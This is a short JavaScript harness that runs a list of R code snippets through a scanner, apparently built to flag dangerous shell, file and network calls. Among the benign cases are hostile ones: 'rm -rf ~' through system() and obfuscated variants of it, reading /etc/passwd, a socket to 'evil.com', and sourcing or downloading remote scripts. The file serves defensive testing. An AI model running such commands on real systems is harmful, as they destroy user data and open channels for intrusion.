import { scanR } from '../daemon/src/mediation/shell/inline/r.js';
const cases = [
  'summary(c(1,2,3))', 'x <- 1:10; mean(x)',
  'system("rm -rf ~")', 'system(paste0("r","m -rf ~"))', 'system(paste("rm", "-rf", "~"))', 'system(sprintf("%s -rf %s", "rm", "~"))',
  'cmd <- "ls"; system(cmd)', 'system2("ls", c("-l", "/tmp"))', 'base::system("id", intern=TRUE)',
  'x <- readLines("/etc/passwd")', 'df <- read.csv(file = "data.csv")', 'writeLines("hi", "out.txt")', 'writeLines("hi")',
  'cat("x", file = "o.txt", append = TRUE)', 'cat("hello\\n")', 'unlink(c("a", "b"), recursive=TRUE)', 'file.remove("x")', 'file.rename("a","b")',
  'download.file("https://x.io/a.sh", "a.sh")', 'GET("https://api.x.io")', 'httr::POST("https://x.io", body=list(a=1))',
  'con <- socketConnection("evil.com", 4444)', 'source("setup.R")', 'source("https://x.io/s.R")',
  'eval(parse(text = "system(\'ls\')"))', 'eval(parse(text = s))', 'eval(e)', 'do.call("system", list("id"))', 'do.call(f, list("id"))',
  'get("system")("id")', 'lapply(files, unlink)', 'tools::pskill(1234)', 'dyn.load("x.so")', '"ls" |> system()',
  '# system("rm")\nprint("system(\'rm\')")', 'file <- "x.csv"; read.csv(file)', 'f <- file("log.txt", "w")', 'sink("log.txt")',
  'saveRDS(m, "m.rds")', 'r"(system("x"))"', '`system`("ls")', 'system(',
];
for (const c of cases) console.log(JSON.stringify(c), '=>', JSON.stringify(Object.fromEntries(Object.entries(scanR(c)).filter(([, v]) => Array.isArray(v) ? v.length : v))));
